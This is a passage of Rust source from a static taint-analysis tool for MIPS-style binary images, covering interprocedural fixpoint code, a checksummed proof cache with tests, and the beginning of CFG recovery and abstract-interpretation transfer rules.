    /// promotes them and shrinks the owning function's range.
    pub new_entries: BTreeSet<u32>,
    /// Folded out-state of any widened indirect jump (see
    /// [`State::fold_for_anywhere`]).
    pub anywhere: Option<State>,
    /// Text pages targeted by statically visible stores.
    pub smc_pages: BTreeSet<u32>,
    /// Instructions transferred.
    pub steps: usize,
    /// The run exhausted its step budget before converging.
    pub degraded: bool,
}

/// The affine stack shifts for an interprocedural edge leaving a state
/// whose `$sp` resolves to `s`: forward (caller → callee canonical) and
/// back (callee canonical → caller). `None` when `$sp` is widened — the
/// translation then forgets all stack coordinates, which is sound.
fn deltas(state: &State) -> (Option<i64>, Option<i64>) {
    match state.get(Reg::SP).value.singleton() {
        Some(s) => (
            Some(i64::from(CANON_SP) - i64::from(s)),
            Some(i64::from(s) - i64::from(CANON_SP)),
        ),
        None => (None, None),
    }
}

/// Joins `st` into `map[key]`.
fn join_map(map: &mut BTreeMap<u32, State>, key: u32, st: State, ctx: &Ctx) {
    match map.get_mut(&key) {
        Some(existing) => {
            existing.join_into(&st, ctx);
        }
        None => {
            map.insert(key, st);
        }
    }
}

/// Joins `st` into an optional accumulator.
fn join_opt(slot: &mut Option<State>, st: State, ctx: &Ctx) {
    match slot {
        Some(existing) => {
            existing.join_into(&st, ctx);
        }
        None => {
            *slot = Some(st);
        }
    }
}

/// Mutable build state for one run, so edge handlers can borrow fields
/// independently.
struct Build<'a> {
    ctx: &'a Ctx,
    view: FnView,
    entries: &'a BTreeSet<u32>,
    exits: &'a BTreeMap<u32, State>,
    acc: Option<&'a State>,
    rank: &'a BTreeMap<u32, usize>,
    leaders: BTreeSet<u32>,
    in_states: BTreeMap<u32, State>,
    work: BTreeSet<u32>,
    exit: Option<State>,
    ctx_out: BTreeMap<u32, State>,
    calls: BTreeSet<(u32, u32)>,
    deps: BTreeSet<u32>,
    new_entries: BTreeSet<u32>,
    anywhere: Option<State>,
}

impl Build<'_> {
    /// Whether the edge to `target` is recursive: a self-call, or caller
    /// and target share a static call-graph SCC ([`crate::callgraph`]
    /// assigns one rank per SCC, so equal ranks ⇔ same component). Such
    /// edges translate with [`StackFold::All`] — see there. Targets the
    /// static graph never ranked (dynamically promoted entries) fall back
    /// to the window fold, which still converges, just slower.
    fn recursive_edge(&self, target: u32) -> bool {
        target == self.view.lo
            || matches!(
                (self.rank.get(&self.view.lo), self.rank.get(&target)),
                (Some(a), Some(b)) if a == b
            )
    }

    /// Intra-function edge: dynamic block splitting plus in-state join.
    fn local(&mut self, target: u32, state: State) {
        if !self.leaders.contains(&target) {
            // A newly discovered mid-block target becomes a leader; the
            // block that previously walked across it is re-queued so its
            // extent shrinks.
            if let Some(&prev) = self.leaders.range(..target).next_back() {
                if self.in_states.contains_key(&prev) {
                    self.work.insert(prev);
                }
            }
            self.leaders.insert(target);
        }
        match self.in_states.get_mut(&target) {
            Some(existing) => {
                if existing.join_into(&state, self.ctx) {
                    self.work.insert(target);
                }
            }
            None => {
                let mut st = state;
                // Invariant: every in-state subsumes the Anywhere
                // accumulator once one exists.
                if let Some(a) = self.acc {
                    st.join_into(a, self.ctx);
                }
                self.in_states.insert(target, st);
                self.work.insert(target);
            }
        }
    }

    /// Call edge: contribute the callee context and, if the callee's exit
    /// summary is already known, flow it (translated back, with the
    /// concrete return pc substituted for `RetAddr(0)`) into the return
    /// site.
    fn call(&mut self, site: u32, callee: u32, link: Reg, state: State) {
        self.calls.insert((site, callee));
        self.deps.insert(callee);
        if !self.entries.contains(&callee) {
            self.new_entries.insert(callee);
        }
        let (fwd, back) = deltas(&state);
        let fold = if self.recursive_edge(callee) {
            StackFold::All
        } else {
            StackFold::Window
        };
        let mut callee_ctx = state.translate(self.ctx, fwd, RetXfer::Deepen, fold);
        callee_ctx.set(
            link,
            AbsVal {
                taint: Taint::Clean,
                value: Value::RetAddr(0),
            },
        );
        // The caller's frame pointer crosses the edge as an opaque token:
        // every caller contributes the *same* token, so the callee's joined
        // context (and hence its restored `$fp`) stays a single value;
        // `apply_return` substitutes each caller's own fp back.
        callee_ctx.set(
            Reg::FP,
            AbsVal {
                taint: state.get(Reg::FP).taint,
                value: Value::FrameBase(0),
            },
        );
        // The callee's run starts with an empty effect log of its own.
        callee_ctx.reset_effects();
        join_map(&mut self.ctx_out, callee, callee_ctx, self.ctx);
        if let Some(cx) = self.exits.get(&callee) {
            let ret_site = site.wrapping_add(4);
            // Return composition: the caller's own state at the site,
            // with the callee's MOD effects (translated back) applied —
            // not the callee's exit wholesale, whose memory reflects the
            // join of *every* caller's frame.
            let ret = state.apply_return(
                &cx.translate(self.ctx, back, RetXfer::Pop(ret_site), fold),
                self.ctx,
                true,
            );
            if self.view.contains(ret_site) {
                self.local(ret_site, ret);
            } else if self.ctx.in_text(ret_site) {
                // A call as the function's last instruction: the return
                // lands in the next function — a tail continuation.
                self.tail(ret_site, ret);
            }
        }
    }

    /// Tail edge: the target runs on this invocation's frame and caller
    /// chain, so its exits become this function's exits.
    fn tail(&mut self, target: u32, state: State) {
        self.deps.insert(target);
        if !self.entries.contains(&target) {
            self.new_entries.insert(target);
        }
        let (fwd, back) = deltas(&state);
        let fold = if self.recursive_edge(target) {
            StackFold::All
        } else {
            StackFold::Window
        };
        let mut target_ctx = state.translate(self.ctx, fwd, RetXfer::Keep, fold);
        target_ctx.reset_effects();
        join_map(&mut self.ctx_out, target, target_ctx, self.ctx);
        if let Some(tx) = self.exits.get(&target) {
            // Same MOD-effect composition as a call return, on the shared
            // frame; the target's effects accumulate into this run's exit
            // so they stay visible to *our* callers.
            let composed = state.apply_return(
                &tx.translate(self.ctx, back, RetXfer::Keep, fold),
                self.ctx,
                false,
            );
            join_opt(&mut self.exit, composed, self.ctx);
        }
    }
}

/// Runs the local fixpoint for one function.
///
/// `context` is the accumulated caller contribution (canonical callee
/// coordinates); `acc` the global Anywhere accumulator — when set, every
/// pc in range becomes a leader seeded with it (a widened indirect jump
/// can land anywhere). At least one of the two must be present. `exits` is
/// the driver's pre-wave snapshot of callee exit summaries; consuming a
/// missing entry just leaves the return site unreached (precise for
/// functions not yet analyzed or proven non-returning) and records the
/// dependency for re-runs. `rank` is the static SCC rank map
/// ([`crate::callgraph::ranks`]) used to spot recursive edges.
#[allow(clippy::too_many_arguments)]
#[must_use]
pub fn analyze_fn(
    ctx: &Ctx,
    global_leaders: &BTreeSet<u32>,
    entries: &BTreeSet<u32>,
    view: FnView,
    context: Option<&State>,
    acc: Option<&State>,
    exits: &BTreeMap<u32, State>,
    rank: &BTreeMap<u32, usize>,
    budget: usize,
) -> FnRun {
    let mut b = Build {
        ctx,
        view,
        entries,
        exits,
        acc,
        rank,
        leaders: global_leaders.range(view.lo..view.hi).copied().collect(),
        in_states: BTreeMap::new(),
        work: BTreeSet::new(),
        exit: None,
        ctx_out: BTreeMap::new(),
        calls: BTreeSet::new(),
        deps: BTreeSet::new(),
        new_entries: BTreeSet::new(),
        anywhere: None,
    };
    b.leaders.insert(view.lo);
    let seed = match (context, acc) {
        (Some(c), Some(a)) => {
            let mut s = c.clone();
            s.join_into(a, ctx);
            s
        }
        (Some(c), None) => c.clone(),
        (None, Some(a)) => a.clone(),
        (None, None) => unreachable!("driver only schedules analyzable functions"),
    };
    b.in_states.insert(view.lo, seed);
    b.work.insert(view.lo);
    if let Some(a) = acc {
        // Widened-jump mode: every instruction address is a potential
        // landing point, so every pc is a leader seeded with the
        // accumulator.
        let mut pc = view.lo;
        while pc < view.hi {
            b.leaders.insert(pc);
            match b.in_states.get_mut(&pc) {
                Some(st) => {
                    st.join_into(a, ctx);
                }
                None => {
                    b.in_states.insert(pc, a.clone());
                }
            }
            b.work.insert(pc);
            pc += 4;
        }
    }

    let mut fx = Effects::default();
    let mut steps = 0usize;
    let mut degraded = false;
    while let Some(leader) = b.work.pop_first() {
        if steps > budget {
            degraded = true;
            break;
        }
        let st = b
            .in_states
            .get(&leader)
            .expect("worklist entries always have an in-state")
            .clone();
        let walk = walk_block(ctx, &b.leaders, view, leader, st, &mut fx, None);
        steps += walk.steps;
        if let Some(a) = walk.anywhere {
            let folded = a.fold_for_anywhere(ctx);
            join_opt(&mut b.anywhere, folded, ctx);
        }
        for edge in walk.edges {
            match edge {
                BlockEdge::Local(target, state) => b.local(target, state),
                BlockEdge::Call {
                    site,
                    callee,
                    link,
                    state,
                } => b.call(site, callee, link, state),
                BlockEdge::Tail { target, state, .. } => b.tail(target, state),
                BlockEdge::Return(state) => join_opt(&mut b.exit, state, ctx),
            }
        }
    }

    FnRun {
        view,
        leaders: b.leaders,
        in_states: b.in_states,
        exit: b.exit,
        ctx_out: b.ctx_out,
        calls: b.calls,
        deps: b.deps,
        new_entries: b.new_entries,
        anywhere: b.anywhere,
        smc_pages: fx.smc_pages,
        steps,
        degraded,
    }
}
