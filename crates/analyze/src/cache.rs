//! Persistent, content-addressed proof cache — the `ptaint-proofs v1`
//! format.
//!
//! A cache entry stores one [`Analysis`] keyed by a 64-bit FNV-1a hash of
//! the image (entry point, segment bases, every text word and data byte)
//! salted with [`ANALYSIS_VERSION`], so a stale cache directory can never
//! serve proofs for a different image *or* a different analyzer. The
//! format is hand-rolled line-oriented text like the syscall journal:
//! deterministic to render (sorted sets), trivial to diff, and cheap to
//! parse — a warm boot loads proofs in well under a millisecond where the
//! cold fixpoint costs seconds.
//!
//! Failure contract: a **missing** entry is `Ok(None)` (cold path); an
//! **unreadable or corrupt** entry is `Err(reason)` — callers fall back to
//! cold analysis (and the `analyze` subcommand exits 2), but never panic.
//! Besides the image hash (wrong image / wrong analyzer version), every
//! entry carries a `sum` body checksum, so any single flipped bit on disk
//! — the `proof_cache` fault-injection campaign does exactly this — fails
//! the load instead of silently serving corrupted proofs. Entries written
//! before the checksum existed lack the line and still parse.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use ptaint_asm::Image;
use ptaint_isa::DecodedInsn;

use crate::{state, Analysis, AnalyzeStats, Finding, SiteKind};

/// Version salt folded into the cache key. Bump whenever the analysis
/// semantics change so existing caches invalidate themselves.
pub const ANALYSIS_VERSION: u32 = 2;

/// First line of every cache entry.
pub const MAGIC: &str = "ptaint-proofs v1";

/// Incremental FNV-1a (64-bit).
struct Fnv(u64);

impl Fnv {
    fn new() -> Fnv {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
    fn bytes(&mut self, bs: &[u8]) {
        for &b in bs {
            self.0 ^= u64::from(b);
            self.0 = self.0.wrapping_mul(0x0000_0100_0000_01b3);
        }
    }
    fn u32(&mut self, v: u32) {
        self.bytes(&v.to_le_bytes());
    }
}

/// The content hash keying `image`'s cache entry.
#[must_use]
pub fn image_hash(image: &Image) -> u64 {
    let mut h = Fnv::new();
    h.u32(ANALYSIS_VERSION);
    h.u32(image.entry);
    h.u32(image.text_base);
    h.u32(image.data_base);
    h.u32(u32::try_from(image.text.len()).unwrap_or(u32::MAX));
    for &w in &image.text {
        h.u32(w);
    }
    h.bytes(&image.data);
    h.0
}

/// The cache entry path for `image` under `dir`.
#[must_use]
pub fn path_for(dir: &Path, image: &Image) -> PathBuf {
    dir.join(format!("{:016x}.proofs", image_hash(image)))
}

fn kind_str(k: SiteKind) -> &'static str {
    match k {
        SiteKind::Load => "load",
        SiteKind::Store => "store",
        SiteKind::RegisterJump => "jump",
    }
}

fn kind_parse(s: &str) -> Option<SiteKind> {
    match s {
        "load" => Some(SiteKind::Load),
        "store" => Some(SiteKind::Store),
        "jump" => Some(SiteKind::RegisterJump),
        _ => None,
    }
}

/// Renders an analysis as a `ptaint-proofs v1` entry.
#[must_use]
pub fn render(image: &Image, a: &Analysis) -> String {
    let mut out = String::new();
    let s = &a.stats;
    let _ = writeln!(out, "{MAGIC}");
    let _ = writeln!(out, "image {:016x}", image_hash(image));
    let _ = writeln!(
        out,
        "stats {} {} {} {} {} {} {} {} {}",
        s.functions,
        s.blocks,
        s.instructions,
        s.load_store_sites,
        s.register_jump_sites,
        s.proven_sites,
        s.flagged_sites,
        s.unresolved_sites,
        s.vacuous_sites,
    );
    if let Some(reason) = &a.degraded {
        let _ = writeln!(out, "degraded {reason}");
    }
    for &p in &a.smc_pages {
        let _ = writeln!(out, "smc {p}");
    }
    for &pc in &a.proven {
        let _ = writeln!(out, "proven {pc:08x}");
    }
    for f in &a.findings {
        let _ = writeln!(
            out,
            "finding {:08x} {} {} {:#x} {}",
            f.pc,
            kind_str(f.kind),
            f.function,
            f.offset,
            f.chain.join(","),
        );
    }
    // Body content checksum (FNV-1a over every line above, newlines
    // included). The image hash only proves the entry is *for* this image;
    // the sum proves the body survived storage intact — a single flipped
    // bit anywhere above fails the load, and the caller falls back to cold
    // analysis instead of trusting corrupted proofs.
    let mut h = Fnv::new();
    h.bytes(out.as_bytes());
    let _ = writeln!(out, "sum {:016x}", h.0);
    let _ = writeln!(out, "end");
    out
}

/// Writes `image`'s cache entry under `dir` (creating it), returning the
/// entry path.
pub fn store(dir: &Path, image: &Image, a: &Analysis) -> std::io::Result<PathBuf> {
    std::fs::create_dir_all(dir)?;
    let path = path_for(dir, image);
    std::fs::write(&path, render(image, a))?;
    Ok(path)
}

/// Loads `image`'s cache entry from `dir`. `Ok(None)` when there is no
/// entry (cold path); `Err(reason)` when the entry exists but cannot be
/// read or parsed — callers fall back to cold analysis.
pub fn load(dir: &Path, image: &Image) -> Result<Option<Analysis>, String> {
    let path = path_for(dir, image);
    let text = match std::fs::read_to_string(&path) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(format!("{}: {e}", path.display())),
    };
    parse(image, &text)
        .map(Some)
        .map_err(|e| format!("{}: {e}", path.display()))
}

/// Parses a `ptaint-proofs v1` entry back into an [`Analysis`],
/// re-decoding each finding's instruction from the image text.
fn parse(image: &Image, text: &str) -> Result<Analysis, String> {
    let ctx = state::Ctx::new(image);
    let mut lines = text.lines();
    if lines.next() != Some(MAGIC) {
        return Err(format!("bad magic (want `{MAGIC}`)"));
    }
    let image_line = lines.next().unwrap_or_default();
    let want = format!("image {:016x}", image_hash(image));
    if image_line != want {
        return Err(format!(
            "image hash mismatch (`{image_line}`, want `{want}`)"
        ));
    }

    let mut a = Analysis {
        stats: AnalyzeStats::default(),
        findings: Vec::new(),
        proven: std::collections::BTreeSet::new(),
        smc_pages: std::collections::BTreeSet::new(),
        degraded: None,
    };
    let mut saw_stats = false;
    let mut saw_end = false;
    // Incremental body hash for the `sum` line (entries written before the
    // checksum existed simply lack the line and skip verification).
    let mut hasher = Fnv::new();
    hasher.bytes(MAGIC.as_bytes());
    hasher.bytes(b"\n");
    hasher.bytes(image_line.as_bytes());
    hasher.bytes(b"\n");
    for line in lines {
        if saw_end {
            return Err("trailing content after `end`".to_owned());
        }
        let (tag, rest) = line.split_once(' ').unwrap_or((line, ""));
        if tag == "sum" {
            let want =
                u64::from_str_radix(rest, 16).map_err(|e| format!("bad sum line `{rest}`: {e}"))?;
            if hasher.0 != want {
                return Err(format!(
                    "content checksum mismatch (stored {want:016x}, computed {:016x}) — corrupt entry",
                    hasher.0
                ));
            }
            continue;
        }
        hasher.bytes(line.as_bytes());
        hasher.bytes(b"\n");
        match tag {
            "stats" => {
                let mut nums = rest.split(' ').map(str::parse::<usize>);
                let mut next = || -> Result<usize, String> {
                    nums.next()
                        .ok_or_else(|| "short stats line".to_owned())?
                        .map_err(|e| format!("bad stats field: {e}"))
                };
                a.stats = AnalyzeStats {
                    functions: next()?,
                    blocks: next()?,
                    instructions: next()?,
                    load_store_sites: next()?,
                    register_jump_sites: next()?,
                    proven_sites: next()?,
                    flagged_sites: next()?,
                    unresolved_sites: next()?,
                    vacuous_sites: next()?,
                };
                saw_stats = true;
            }
            "degraded" => a.degraded = Some(rest.to_owned()),
            "smc" => {
                let p = rest.parse().map_err(|e| format!("bad smc page: {e}"))?;
                a.smc_pages.insert(p);
            }
            "proven" => {
                let pc = u32::from_str_radix(rest, 16)
                    .map_err(|e| format!("bad proven pc `{rest}`: {e}"))?;
                a.proven.insert(pc);
            }
            "finding" => {
                let mut it = rest.splitn(5, ' ');
                let pc = it
                    .next()
                    .and_then(|s| u32::from_str_radix(s, 16).ok())
                    .ok_or("bad finding pc")?;
                let kind = it.next().and_then(kind_parse).ok_or("bad finding kind")?;
                let function = it.next().ok_or("missing finding function")?.to_owned();
                let offset = it
                    .next()
                    .and_then(|s| s.strip_prefix("0x"))
                    .and_then(|s| u32::from_str_radix(s, 16).ok())
                    .ok_or("bad finding offset")?;
                let chain: Vec<String> = it
                    .next()
                    .unwrap_or_default()
                    .split(',')
                    .filter(|s| !s.is_empty())
                    .map(str::to_owned)
                    .collect();
                let word = ctx
                    .word_at(pc)
                    .ok_or_else(|| format!("finding pc {pc:08x} outside text"))?;
                let instr = DecodedInsn::predecode(pc, word)
                    .map_err(|_| format!("finding pc {pc:08x} does not decode"))?
                    .instr;
                a.findings.push(Finding {
                    pc,
                    instr,
                    kind,
                    function,
                    offset,
                    chain,
                });
            }
            "end" => saw_end = true,
            _ => return Err(format!("unknown line tag `{tag}`")),
        }
    }
    if !saw_stats {
        return Err("missing stats line".to_owned());
    }
    if !saw_end {
        return Err("truncated entry (missing `end`)".to_owned());
    }
    Ok(a)
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_asm::assemble;

    fn sample() -> Image {
        assemble(
            "       .data
buf:    .word 0
        .text
main:   addiu $4, $0, 0
        lui $5, %hi(buf)
        ori $5, $5, %lo(buf)
        addiu $6, $0, 4
        addiu $2, $0, 3
        syscall
        lui $8, %hi(buf)
        ori $8, $8, %lo(buf)
        lw $9, 0($8)
        lw $10, 0($9)
        jr $31",
        )
        .unwrap()
    }

    #[test]
    fn round_trips_bit_identically() {
        let image = sample();
        let a = crate::analyze(&image);
        assert!(!a.findings.is_empty());
        let text = render(&image, &a);
        let b = parse(&image, &text).expect("round trip parses");
        assert_eq!(a, b);
        // Deterministic rendering of the reloaded analysis.
        assert_eq!(text, render(&image, &b));
    }

    #[test]
    fn store_load_round_trip_on_disk() {
        let image = sample();
        let a = crate::analyze(&image);
        let dir = std::env::temp_dir().join(format!(
            "ptaint-cache-test-{}-{}",
            std::process::id(),
            image_hash(&image),
        ));
        let _ = std::fs::remove_dir_all(&dir);
        assert_eq!(load(&dir, &image), Ok(None), "cold cache misses cleanly");
        store(&dir, &image, &a).unwrap();
        assert_eq!(load(&dir, &image), Ok(Some(a)));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn corrupt_entries_error_instead_of_panicking() {
        let image = sample();
        let a = crate::analyze(&image);
        let dir = std::env::temp_dir().join(format!(
            "ptaint-cache-corrupt-{}-{}",
            std::process::id(),
            image_hash(&image),
        ));
        let _ = std::fs::remove_dir_all(&dir);
        let path = store(&dir, &image, &a).unwrap();

        // Truncation (missing `end`).
        let full = std::fs::read_to_string(&path).unwrap();
        std::fs::write(&path, &full[..full.len() / 2]).unwrap();
        assert!(load(&dir, &image).is_err());

        // Garbage.
        std::fs::write(&path, "not a proofs file\n").unwrap();
        assert!(load(&dir, &image).is_err());

        // A different analyzer version's entry (hash mismatch inside).
        std::fs::write(&path, format!("{MAGIC}\nimage 0000000000000000\nend\n")).unwrap();
        assert!(load(&dir, &image).is_err());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn any_single_bit_flip_fails_the_checksum() {
        let image = sample();
        let a = crate::analyze(&image);
        let dir = std::env::temp_dir().join(format!(
            "ptaint-cache-bitflip-{}-{}",
            std::process::id(),
            image_hash(&image),
        ));
        let _ = std::fs::remove_dir_all(&dir);
        let path = store(&dir, &image, &a).unwrap();
        let clean = std::fs::read(&path).unwrap();
        assert!(render(&image, &a).contains("\nsum "), "entries carry a sum");

        // Flip one bit in every 97th byte position (coprime stride keeps
        // the test fast while covering magic, stats, proven, findings, sum
        // and end lines alike): each corrupted entry must fail to load.
        for pos in (0..clean.len()).step_by(97) {
            let mut corrupt = clean.clone();
            corrupt[pos] ^= 1 << (pos % 8);
            std::fs::write(&path, &corrupt).unwrap();
            assert!(
                load(&dir, &image).is_err(),
                "bit flip at byte {pos} must be rejected"
            );
        }

        // A legacy entry without the sum line still parses.
        let legacy: String = String::from_utf8(clean)
            .unwrap()
            .lines()
            .filter(|l| !l.starts_with("sum "))
            .map(|l| format!("{l}\n"))
            .collect();
        std::fs::write(&path, legacy).unwrap();
        assert_eq!(load(&dir, &image), Ok(Some(a)));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn hash_is_sensitive_to_text_and_data() {
        let a = assemble("main: jr $31").unwrap();
        let b = assemble("main: nop\n jr $31").unwrap();
        assert_ne!(image_hash(&a), image_hash(&b));
    }
}
