//! CFG recovery and fixpoint abstract interpretation.
//!
//! Basic blocks are discovered from a static pre-scan (branch/jump targets,
//! call return sites, address-taken text constants) and refined dynamically:
//! when the interpretation resolves an indirect jump to a constant landing
//! mid-block, the containing block is split and re-queued. Indirect jumps
//! whose target value has been widened fan out to **every** instruction
//! address — a computed jump (`jr base+4*i`) can land mid-block at a pc no
//! narrower heuristic (return sites, function entries) anticipates, and an
//! unjoined landing point would let downstream sites be proven clean
//! against a path that taints them. Fanning out to all pcs keeps the
//! analysis sound at the price of precision around unresolved computed
//! jumps.

use std::collections::{BTreeMap, BTreeSet};

use ptaint_isa::{
    BranchCond, BranchZCond, DecodedInsn, IAluOp, Instr, MemWidth, RAluOp, Reg, ShiftOp, PAGE_SIZE,
};
use ptaint_os::Sys;

use crate::domain::{AbsVal, Region, Taint, Value};
use crate::state::{Ctx, State};

/// Total instruction-transfer budget for the fixpoint; exceeding it marks
/// the analysis degraded (no elision candidates). Generous: the testbed
/// images are a few hundred instructions and converge within thousands.
pub const STEP_BUDGET: usize = 2_000_000;

/// Cap (in bytes) on precise tainting of a `read`/`recv` destination
/// buffer; larger or unknown lengths degrade to a region havoc.
const MAX_SEED_BYTES: u32 = 4096;

/// How a block's control continues after its last transferred instruction.
enum Flow {
    /// Fall through to `pc + 4`.
    Fall,
    /// Conditional branch: either arm may be statically excluded.
    Cond {
        target: u32,
        taken: bool,
        fall: bool,
    },
    /// Unconditional direct jump (no link).
    Jump(u32),
    /// A call: `jal`, or `jalr` whose target set resolved to constants.
    /// The link register is *not* written by the transfer — the
    /// interprocedural edge installs an opaque [`Value::RetAddr`] in the
    /// callee context and substitutes the concrete return pc when the
    /// callee's exit summary flows back to the return site.
    Call { targets: Vec<u32>, link: Reg },
    /// `jr`/`jalr` through the current invocation's opaque return address:
    /// a structural function return.
    Return,
    /// Register-indirect jump with a resolved (constant) target set.
    Targets(Vec<u32>),
    /// Register-indirect jump whose target value was widened: control can
    /// continue at *any* instruction address. The driver folds the
    /// out-state into a single accumulator joined at every pc instead of
    /// materializing one edge per instruction.
    Anywhere,
    /// Execution cannot continue past this instruction (exit, break,
    /// undecodable word, jump out of text).
    Halt,
}

/// Facts accumulated across the whole analysis, independent of any one
/// abstract state.
#[derive(Debug, Default)]
pub struct Effects {
    /// Text pages targeted by statically visible stores — their
    /// instructions are never proven clean (self-modifying code).
    pub smc_pages: BTreeSet<u32>,
}

/// Static pre-scan products: the initial block leaders and the function
/// entries used for report partitioning.
pub struct Prescan {
    /// Initial basic-block leaders (includes `jal`/`jalr` return sites).
    pub leaders: BTreeSet<u32>,
    /// Function entries: image entry, `jal` targets, address-taken text
    /// constants, and the exit stub.
    pub fn_entries: BTreeSet<u32>,
}

/// Scans the text (and data words) once, before interpretation, collecting
/// leaders, function entries, return sites and address-taken constants.
#[must_use]
pub fn prescan(ctx: &Ctx) -> Prescan {
    let mut leaders = BTreeSet::new();
    let mut fn_entries = BTreeSet::new();
    let mut return_sites = BTreeSet::new();

    let add_leader = |set: &mut BTreeSet<u32>, addr: u32| {
        if ctx.in_text(addr) {
            set.insert(addr);
        }
    };
    add_leader(&mut leaders, ctx.entry);
    add_leader(&mut leaders, ctx.stub);
    fn_entries.insert(ctx.entry);
    fn_entries.insert(ctx.stub);

    // `la fn` compiles to an adjacent lui/ori pair; track the last `lui`
    // constant per register so address-taken functions reachable only
    // through register-indirect calls still become entries/leaders.
    let mut lui_val: [Option<u32>; 32] = [None; 32];

    for (i, &word) in ctx.words.iter().enumerate() {
        let pc = ctx.text_base + 4 * i as u32;
        let Ok(d) = DecodedInsn::predecode(pc, word) else {
            // Undecodable word: whatever follows starts fresh.
            add_leader(&mut leaders, pc + 4);
            lui_val = [None; 32];
            continue;
        };
        match d.instr {
            Instr::Branch { .. } | Instr::BranchZ { .. } => {
                add_leader(&mut leaders, d.target);
            }
            Instr::Jump { link, .. } => {
                add_leader(&mut leaders, d.target);
                if link {
                    fn_entries.insert(d.target);
                    return_sites.insert(pc + 4);
                }
            }
            Instr::JumpAndLinkReg { .. } => {
                return_sites.insert(pc + 4);
            }
            Instr::Lui { rt, .. } => {
                lui_val[rt.number() as usize] = Some(d.imm);
            }
            Instr::IAlu {
                op: IAluOp::Ori,
                rt,
                rs,
                ..
            } => {
                if let Some(hi) = lui_val[rs.number() as usize] {
                    let addr = hi | d.imm;
                    if addr.is_multiple_of(4) && ctx.in_text(addr) {
                        fn_entries.insert(addr);
                        add_leader(&mut leaders, addr);
                    }
                }
                lui_val[rt.number() as usize] = None;
            }
            _ => {}
        }
        if d.instr.ends_basic_block() {
            add_leader(&mut leaders, pc + 4);
        }
        // Any other definition invalidates a pending lui half.
        if let Some(rd) = written_reg(&d.instr) {
            if !matches!(d.instr, Instr::Lui { .. }) {
                lui_val[rd.number() as usize] = None;
            }
        }
    }

    // Address-taken text constants stored in initialized data (function
    // pointer tables).
    let mut off = 0usize;
    while off + 4 <= ctx.data.len() {
        let w = u32::from_le_bytes(ctx.data[off..off + 4].try_into().unwrap());
        if w.is_multiple_of(4) && ctx.in_text(w) {
            fn_entries.insert(w);
            leaders.insert(w);
        }
        off += 4;
    }

    // Return sites are jump targets too.
    for &rs in &return_sites {
        leaders.insert(rs);
    }
    Prescan {
        leaders,
        fn_entries,
    }
}

/// The general-purpose register an instruction writes, if any (used only to
/// invalidate pending `lui` halves in the pre-scan).
fn written_reg(i: &Instr) -> Option<Reg> {
    match *i {
        Instr::Shift { rd, .. }
        | Instr::ShiftV { rd, .. }
        | Instr::RAlu { rd, .. }
        | Instr::MoveFromHi { rd }
        | Instr::MoveFromLo { rd }
        | Instr::JumpAndLinkReg { rd, .. } => Some(rd),
        Instr::IAlu { rt, .. } | Instr::Lui { rt, .. } | Instr::Load { rt, .. } => Some(rt),
        Instr::Jump { link: true, .. } => Some(Reg::RA),
        _ => None,
    }
}

/// Evaluates one instruction against the abstract state, returning how
/// control continues. Mirrors the dynamic Table-1 propagation from above:
/// every rule here is an upper bound on the taint the CPU can produce.
#[allow(clippy::too_many_lines)]
fn transfer(ctx: &Ctx, st: &mut State, pc: u32, d: &DecodedInsn, fx: &mut Effects) -> Flow {
    let lay = &ctx.layout;
    match d.instr {
        Instr::Shift { op, rd, rt, shamt } => {
            let a = st.get(rt);
            let value = a.value.map(lay, |v| shift(op, v, u32::from(shamt)));
            st.set(
                rd,
                AbsVal {
                    taint: a.taint,
                    value,
                },
            );
            Flow::Fall
        }
        Instr::ShiftV { op, rd, rt, rs } => {
            let a = st.get(rt);
            let b = st.get(rs);
            let value = a.value.binop(&b.value, lay, |v, s| shift(op, v, s & 31));
            st.set(
                rd,
                AbsVal {
                    taint: a.taint.join(b.taint),
                    value,
                },
            );
            Flow::Fall
        }
        Instr::RAlu { op, rd, rs, rt } => {
            let a = st.get(rs);
            let b = st.get(rt);
            let out = match op {
                RAluOp::Slt | RAluOp::Sltu => {
                    // Compare: clean result, operands untainted (Table 1).
                    st.untaint(rs);
                    st.untaint(rt);
                    let value = a.value.binop(&b.value, lay, |x, y| match op {
                        RAluOp::Slt => u32::from((x as i32) < (y as i32)),
                        _ => u32::from(x < y),
                    });
                    AbsVal {
                        taint: Taint::Clean,
                        value,
                    }
                }
                RAluOp::Add | RAluOp::Addu => AbsVal {
                    taint: a.taint.join(b.taint),
                    value: a.value.add(&b.value, lay),
                },
                RAluOp::Sub | RAluOp::Subu => AbsVal {
                    taint: a.taint.join(b.taint),
                    value: a.value.sub(&b.value, lay),
                },
                RAluOp::Xor if rs == rt => AbsVal::clean_const(0),
                RAluOp::Or if b.value.singleton() == Some(0) => AbsVal {
                    taint: a.taint.join(b.taint),
                    value: a.value.clone(),
                },
                RAluOp::Or if a.value.singleton() == Some(0) => AbsVal {
                    taint: a.taint.join(b.taint),
                    value: b.value.clone(),
                },
                RAluOp::And | RAluOp::Or | RAluOp::Xor | RAluOp::Nor => AbsVal {
                    taint: a.taint.join(b.taint),
                    value: a.value.binop(&b.value, lay, |x, y| match op {
                        RAluOp::And => x & y,
                        RAluOp::Or => x | y,
                        RAluOp::Xor => x ^ y,
                        _ => !(x | y),
                    }),
                },
            };
            st.set(rd, out);
            Flow::Fall
        }
        Instr::MulDiv { rs, rt, .. } => {
            let t = st.get(rs).taint.join(st.get(rt).taint);
            st.set_hilo(AbsVal::opaque(t), AbsVal::opaque(t));
            Flow::Fall
        }
        Instr::MoveFromHi { rd } => {
            let v = st.hi();
            st.set(rd, v);
            Flow::Fall
        }
        Instr::MoveFromLo { rd } => {
            let v = st.lo();
            st.set(rd, v);
            Flow::Fall
        }
        Instr::MoveToHi { rs } => {
            let v = st.get(rs);
            let lo = st.lo();
            st.set_hilo(v, lo);
            Flow::Fall
        }
        Instr::MoveToLo { rs } => {
            let v = st.get(rs);
            let hi = st.hi();
            st.set_hilo(hi, v);
            Flow::Fall
        }
        Instr::IAlu { op, rt, rs, .. } => {
            let a = st.get(rs);
            let imm = Value::constant(d.imm);
            let out = match op {
                IAluOp::Addi | IAluOp::Addiu => AbsVal {
                    taint: a.taint,
